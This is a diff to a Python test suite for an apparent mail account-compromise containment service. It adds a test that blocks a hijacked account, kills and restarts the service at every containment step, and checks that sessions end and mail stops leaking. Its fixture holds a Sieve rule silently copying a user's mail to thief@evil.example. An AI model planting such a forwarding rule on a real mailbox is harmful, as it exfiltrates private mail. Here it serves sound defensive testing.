@@ -27,6 +27,7 @@ pytestmark = [
 
 KNOWN = "what-the-thief-knows"
 THIEF = "thief@evil.example"
+ASKED = {"reset-password", "end-sessions", "revoke-app-passwords", "disable-rules"}
 SCRIPT = f'require ["copy"];\nredirect :copy "{THIEF}";\n'.encode()
 _SETTINGS = """\
 [site]
@@ -71,7 +72,7 @@ class Provider(NamedTuple):
 
 
 @contextmanager
-def provider(home: Path) -> Iterator[Provider]:
+def provider(home: Path, more: str = "") -> Iterator[Provider]:
     """Start everything; end everything."""
     sink, database = Sink(), home / "accounts.db"
     with closing(sqlite3.connect(database)) as made:
@@ -83,7 +84,7 @@ def provider(home: Path) -> Iterator[Provider]:
         made.commit()
     database.chmod(0o644)
     settings = _SETTINGS.format(home=home, dovecot=home / "dovecot/dovecot.conf", database=database)
-    service = Service(home, home / "maillog", settings)
+    service = Service(home, home / "maillog", settings + more)
     milters = f"smtpd_milters = unix:{service.milter}\nmilter_default_action = tempfail\n"
     postfix = Postfix(home, sink, settings=milters)
     dovecot = MailboxServer(home / "dovecot", postfix.socket, sink, postfixadmin.passdbs("sqlite", str(database)))
@@ -158,6 +159,47 @@ def test_bad_input_is_one_line_and_nothing_half_done(home: Path) -> None:
         assert nothing.returncode == 3
 
 
+def test_a_case_contains_it_though_killed_at_every_step(home: Path) -> None:
+    with provider(home, '[cases]\nmode = "act"\n') as world:
+        world.dovecot.doveadm("sieve", "put", "-u", ROSA, "-a", "main", given=SCRIPT)
+        before = world.everything()
+        reading = [world.dovecot.log_in(ROSA, KNOWN), world.dovecot.log_in(ROSA, APP)]
+        world.service.ask("account", "block", ROSA, "--reason", "spam")
+        kills = _killed_at_every_step(world)
+        assert kills >= 4
+        assert not any(session is not None and is_alive(session) for session in reading)
+        _comes_not_back(world)
+        _reads_no_more(world, copies=0)
+
+        world.service.ask("account", "unblock", ROSA, "--wrongly", "--reason", "it was another Rosa")
+        wait_until(lambda: world.everything() == before, "everything to be as it was")
+        assert world.dovecot.lets_in(ROSA, KNOWN)
+        assert world.service.run("audit", "verify").returncode == 0
+
+
+def _killed_at_every_step(world: Provider) -> int:
+    """Kill the service as soon as a further step is written down, and start it again, until all of them are over."""
+    seen = kills = 0
+
+    def is_over() -> bool:
+        nonlocal seen, kills
+        states = _steps(world)
+        if len(states) > seen:
+            seen, kills = len(states), kills + 1
+            world.service.kill()
+            world.service.start()
+        asked = {response for response, _ in states}
+        return asked >= ASKED and all(state == "done" for _, state in states)
+
+    wait_until(is_over, "the case to contain it", 90)
+    return kills
+
+
+def _steps(world: Provider) -> list[tuple[str, str]]:
+    with closing(sqlite3.connect(f"file:{world.service.store}?mode=ro", uri=True, timeout=10)) as store:
+        return list(store.execute("SELECT response, state FROM containment_steps"))
+
+
 def is_refused(session: smtplib.SMTP) -> bool:
     """Try to hand in through a session that is open."""
     try:
@@ -181,8 +223,8 @@ def _reads_along(world: Provider) -> None:
     wait_until(lambda: world.arrived(THIEF) == 1, "the thief's copy")
 
 
-def _reads_no_more(world: Provider) -> None:
+def _reads_no_more(world: Provider, copies: int = 1) -> None:
     world.dovecot.deliver(ROSA, "after")
     subjects = world.dovecot.doveadm("fetch", "-u", ROSA, "hdr.subject", "ALL")
     assert "after" in subjects
-    assert world.arrived(THIEF) == 1
+    assert world.arrived(THIEF) == copies
